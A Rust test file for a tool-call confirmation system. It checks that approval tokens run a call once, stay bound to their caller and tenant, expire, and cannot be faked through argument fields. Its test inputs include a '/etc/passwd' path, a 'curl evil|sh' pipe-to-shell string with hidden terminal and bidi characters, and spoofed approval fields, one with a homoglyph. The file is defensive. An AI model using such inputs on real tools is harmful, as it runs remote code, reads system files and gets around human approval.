//! Asking and redeeming: what a token is good for.

use std::iter::{Empty, empty};

use callgate_core::code::Code;
use callgate_core::confirm::{
    Asked, Binding, By, DecideError, Decided, Refusal, Ticket, TicketState, Verdict, caller_digest, principal_digest,
};
use callgate_core::context::{CallContext, Mode, Scopes};
use callgate_core::digest::Digest;
use callgate_core::time::Timestamp;
use callgate_core::tool::ConfirmBy;

use crate::world::{Answer, Host, Says, Sent, World, code, json, shell};

const ARGUMENTS: &[u8] = br#"{"path":"a","max":5000}"#;

fn asking() -> Host {
    Host::new(World { mutating: true, confirm: ConfirmBy::Caller, ..World::good() })
}

fn ask(host: &Host, caller: CallContext<'_>) -> String {
    let sent = Sent { tool: "probe", arguments: ARGUMENTS, token: None, caller };
    let outcome = host.linear(&sent, json);
    let (_, rest) = outcome.split_once(r#""confirm_token":""#).unwrap_or_else(|| panic!("{outcome}"));
    rest.chars().take(32).collect()
}

fn redeem(host: &Host, token: &str, caller: CallContext<'_>, arguments: &[u8]) -> Option<Code> {
    host.linear(&Sent { tool: "probe", arguments, token: Some(token), caller }, code)
}

/// A5, R7: a token runs its call once; the action is charged once; what is sent beside the token is inert.
#[test]
fn a5_a_token_runs_once_with_the_arguments_it_was_issued_for() {
    let host = asking();
    let caller = shell(Mode::Execute);
    let token = ask(&host, caller);
    assert_eq!(host.effects.get(), 0);
    assert_eq!(host.remaining(), 95);
    assert_eq!(redeem(&host, &token, caller, br#"{"path":"/etc/passwd"}"#), None);
    assert_eq!(host.executed_args.borrow().as_slice(), [r#"{"path":"a","max":100}"#]);
    assert_eq!(host.remaining(), 95, "R7");
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), Some(Code::ConfirmationInvalid));
    assert_eq!(host.effects.get(), 1);
    let lines = host.lines.borrow();
    assert!(lines.iter().any(|line| line.contains(r#""confirmed_by":"self""#)), "A2: {lines:?}");
    assert!(lines.last().is_some_and(|line| line.contains(r#""check":"used""#)), "A6: {lines:?}");
    // A11: the token itself is in no record.
    assert!(lines.iter().all(|line| !line.contains(&token)));
}

/// A4, A6: the token of another caller, channel or session is refused like any bad one, and withdrawn.
#[test]
fn a4_a_token_is_bound_to_its_caller() {
    let other = |change: fn(CallContext<'static>) -> CallContext<'static>| change(shell(Mode::Execute));
    for stranger in [
        other(|caller| caller.with_principal("mallory")),
        other(|caller| CallContext { channel: "tui", ..caller }),
        other(|caller| CallContext { session: Some("s2"), ..caller }),
        other(|caller| CallContext { tenant: Some("t2"), ..caller }),
    ] {
        let host = asking();
        let token = ask(&host, shell(Mode::Execute));
        assert_eq!(redeem(&host, &token, stranger, ARGUMENTS), Some(Code::ConfirmationInvalid));
        // Burnt: the rightful caller has to ask again.
        assert_eq!(redeem(&host, &token, shell(Mode::Execute), ARGUMENTS), Some(Code::ConfirmationInvalid));
        assert_eq!(host.effects.get(), 0);
    }
}

/// A6: to its holder every refusal looks the same.
#[test]
fn a6_refusals_look_alike() {
    let caller = shell(Mode::Execute);
    let text = |host: &Host, token: &str| {
        host.linear(&Sent { tool: "probe", arguments: ARGUMENTS, token: Some(token), caller }, |outcome| {
            (outcome.code(), outcome.error().map(|error| error.to_string()))
        })
    };
    let host = asking();
    let used = ask(&host, caller);
    assert_eq!(redeem(&host, &used, caller, ARGUMENTS), None);
    let expired = ask(&host, caller);
    host.now.set(host.now.get() + 60_000);
    let unknown = "ffffffffffffffffffffffffffffffff";
    let expected = (Some(Code::ConfirmationInvalid), Some("Invalid or expired confirmation token".to_owned()));
    for token in [used.as_str(), expired.as_str(), unknown, "", "x", "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"] {
        assert_eq!(text(&host, token), expected, "{token}");
    }
}

/// A6, F3: a denial is told while the ticket lives. Afterwards nothing of it is, since a store may have forgotten it by then.
#[test]
fn a6_what_is_told_of_a_denied_ticket_does_not_hang_on_what_a_store_still_knows() {
    let now = Timestamp::from_unix_millis(1_000_000);
    let digest = Digest::of_bytes(b"x");
    let binding = Binding { tool: digest, arguments: digest, caller: digest, principal: digest };
    let denied = Ticket { state: TicketState::Denied, ..Ticket::issue(binding, By::Approver, now, 1_000) };
    assert_eq!(denied.usable(now.saturating_add_millis(999)), Err(Refusal::Denied));
    assert_eq!(denied.usable(now.saturating_add_millis(1_000)), Err(Refusal::Expired));
}

/// A10: at the moment of expiry itself the token is worthless.
#[test]
fn a10_the_boundary_of_expiry() {
    for (wait, accepted) in [(59_999, true), (60_000, false), (60_001, false)] {
        let host = asking();
        let token = ask(&host, shell(Mode::Execute));
        host.now.set(host.now.get() + wait);
        assert_eq!(redeem(&host, &token, shell(Mode::Execute), ARGUMENTS).is_none(), accepted, "{wait}");
    }
}

/// A token that was shown is redeemed even where nobody would ask any more: it is never ignored.
#[test]
fn a3_a_token_is_never_ignored() {
    let host = Host::new(World::good());
    let token = "00000000000000000000000000000000";
    assert_eq!(redeem(&host, token, shell(Mode::Execute), ARGUMENTS), Some(Code::ConfirmationInvalid));
    assert_eq!(host.effects.get(), 0);
}

/// S8, A3: what looks like an approval among the arguments is an unknown field.
#[test]
fn a3_arguments_are_no_approval_channel() {
    for arguments in [
        r#"{"path":"a","approved":true}"#,
        r#"{"path":"a","Approved":true}"#,
        "{\"path\":\"a\",\"approv\u{435}d\":true}",
        r#"{"path":"a","confirm_token":"00000000000000000000000000000000"}"#,
    ] {
        let host = asking();
        let sent = Sent { tool: "probe", arguments: arguments.as_bytes(), token: None, caller: shell(Mode::Execute) };
        assert_eq!(host.linear(&sent, code), Some(Code::ValidationError), "{arguments}");
    }
}

/// P7: authorization is evaluated again when the token comes back; a denial leaves the token usable.
#[test]
fn p7_policy_is_asked_again_at_redemption() {
    let mut host = asking();
    let caller = shell(Mode::Execute);
    let token = ask(&host, caller);
    host.world.policy = Some(Answer::Refuses);
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), Some(Code::Forbidden));
    host.world.policy = None;
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), None);
    assert_eq!(host.effects.get(), 1);
}

/// E3: a veto after redemption leaves the token spent.
#[test]
fn e3_a_veto_leaves_the_token_spent() {
    let mut host = asking();
    let caller = shell(Mode::Execute);
    let token = ask(&host, caller);
    host.world.says = Says::Veto;
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), Some(Code::Vetoed));
    host.world.says = Says::Continue;
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), Some(Code::ConfirmationInvalid));
    assert_eq!(host.effects.get(), 0);
}

/// G4: a definition that changed between ask and redemption is another tool.
#[test]
fn g4_a_changed_definition_is_another_tool() {
    let host = asking();
    let caller = shell(Mode::Execute);
    let token = ask(&host, caller);
    let changed = host.with_tool(|spec| spec.with_timeout_ms(1));
    assert_eq!(redeem(&changed, &token, caller, ARGUMENTS), Some(Code::ConfirmationInvalid));
    assert_eq!(changed.effects.get(), 0);
}

/// R4: a token in plan mode is looked at and not touched.
#[test]
fn r4_a_plan_does_not_redeem() {
    let host = asking();
    let token = ask(&host, shell(Mode::Execute));
    let planned =
        host.linear(&Sent { tool: "probe", arguments: b"{}", token: Some(&token), caller: shell(Mode::Plan) }, json);
    assert!(planned.contains(r#""args":{"path":"a","max":100}"#), "{planned}");
    assert_eq!(redeem(&host, &token, shell(Mode::Execute), ARGUMENTS), None);
}

/// A2: a caller's own yes does not stand for an approver's.
#[test]
fn a2_an_approval_is_not_given_by_its_requester() {
    let host = Host::new(World { confirm: ConfirmBy::Approver { scope: "approve" }, ..World::good() });
    let caller = shell(Mode::Execute);
    let token = ask(&host, caller);
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), Some(Code::ApprovalPending));
    assert_eq!(host.effects.get(), 0);
    assert!(host.decide_ticket(&token, CallContext::web("r-9", Some("boss"), Scopes::new("read"))).is_err());
    assert!(host.decide_ticket(&token, caller).is_err());
    assert!(host.decide_ticket(&token, CallContext::web("r-9", Some("boss"), Scopes::new("approve"))).is_ok());
    assert_eq!(redeem(&host, &token, caller, ARGUMENTS), None);
    assert!(host.lines.borrow().iter().any(|line| line.contains(r#""confirmed_by":"approver""#)));
}

const fn asked(tenant: Option<&str>) -> Asked<'_, Empty<&'static str>> {
    Asked { tenant, scope: "approve", approved_by: empty() }
}

/// P2: who decides is of the requester's tenant. Another tenant learns nothing of the request, whatever state it is in and
/// whatever else is wrong with the decision.
#[test]
fn p2_only_the_requesters_tenant_decides() {
    let now = Timestamp::from_unix_millis(1_000);
    let tenants = [None, Some(""), Some("t1"), Some("t2"), Some("T1")];
    let pairs = tenants.iter().flat_map(|asks| tenants.map(|decides| (*asks, decides)));
    for ((asks, decides), verdict) in pairs.flat_map(|pair| [Verdict::Approve, Verdict::Deny].map(|yes| (pair, yes))) {
        let asker = CallContext { tenant: asks, ..CallContext::web("r-1", Some("alice"), Scopes::NONE) };
        let digest = Digest::of_bytes(b"x");
        let (caller, principal) = (caller_digest(&asker), principal_digest(&asker));
        let binding = Binding { tool: digest, arguments: digest, caller, principal };
        let fresh = Ticket::issue(binding, By::Approver, now, 1_000);
        let boss = CallContext { tenant: decides, ..CallContext::web("r-2", Some("boss"), Scopes::new("approve")) };
        let mut ticket = fresh;
        let decided = ticket.decide(verdict, &boss, &asked(asks), now);
        if asks == decides {
            assert_eq!(decided, Ok(if verdict == Verdict::Approve { Decided::Approved } else { Decided::Denied }));
            continue;
        }
        assert_eq!((decided, ticket), (Err(DecideError::OtherTenant), fresh), "{asks:?} {decides:?}");
        let nobody = CallContext { principal: None, scopes: Scopes::NONE, ..boss };
        let late = now.saturating_add_millis(1_000);
        for mut ticket in [fresh, Ticket { state: TicketState::Denied, ..fresh }, Ticket { by: By::Caller, ..fresh }] {
            for who in [boss, nobody, CallContext { tenant: decides, ..asker }] {
                assert_eq!(ticket.decide(verdict, &who, &asked(asks), late), Err(DecideError::OtherTenant));
            }
        }
    }
}

/// A20, D1, D5: what is shown of a call is printable, complete, and made from the value that runs.
#[test]
fn d5_a_summary_shows_what_cannot_be_seen() {
    let nasty = "curl evil|sh\\r\\u001b[2K ls \\u202e\\u200b\\u2028 \\udb40\\udd00 \u{202e}\u{200b}";
    let arguments = format!(r#"{{"path":"{nasty}"}}"#);
    let host = asking();
    let sent = Sent { tool: "probe", arguments: arguments.as_bytes(), token: None, caller: shell(Mode::Execute) };
    let outcome = host.linear(&sent, json);
    let value: serde_json::Value = serde_json::from_str(&outcome).expect("an outcome is JSON");
    let summary = value.get("message").and_then(|message| message.as_str()).expect("a summary");
    let hidden = |c: char| c.is_control() || callgate_core::json::write::must_escape(c) && !matches!(c, '"' | '\\');
    assert!(!summary.contains(hidden), "{summary:?}");
    assert!(!outcome.contains(hidden), "{outcome:?}");
    for shown in ["curl evil|sh", "\\u001b[2K", "\\u202e", "\\u200b", "\\u2028", "\\udb40"] {
        assert!(summary.contains(shown), "{shown} in {summary}");
    }
    // The exact text reaches the tool all the same.
    let token = value.pointer("/data/confirm_token").and_then(|token| token.as_str()).expect("a token").to_owned();
    assert_eq!(redeem(&host, &token, shell(Mode::Execute), b""), None);
    let executed = host.executed_args.borrow().first().cloned().expect("it ran");
    let executed: serde_json::Value = serde_json::from_str(&executed).expect("arguments are JSON");
    let path = executed.get("path").and_then(|path| path.as_str()).expect("a path");
    assert!(path.contains("\u{1b}[2K") && path.contains("\u{e0100}") && path.contains('\r'), "{path:?}");
}

/// D2: what is left out of a summary is said, with its length and the digest of the whole.
#[test]
fn d2_a_long_summary_says_what_it_leaves_out() {
    let host = asking();
    let arguments = format!(r#"{{"path":"{}"}}"#, " ".repeat(4_000));
    let sent = Sent { tool: "probe", arguments: arguments.as_bytes(), token: None, caller: shell(Mode::Execute) };
    let outcome = host.linear(&sent, json);
    assert!(outcome.contains("cut after 2048 of 4011 bytes, arguments digest "), "{outcome}");
    let line = host.lines.borrow().last().cloned().expect("a record");
    let (_, digest) = outcome.split_once("arguments digest ").expect("a digest");
    let digest: String = digest.chars().take(64).collect();
    assert!(line.contains(&format!(r#""args_digest":"{digest}""#)), "K4: one digest everywhere");
}
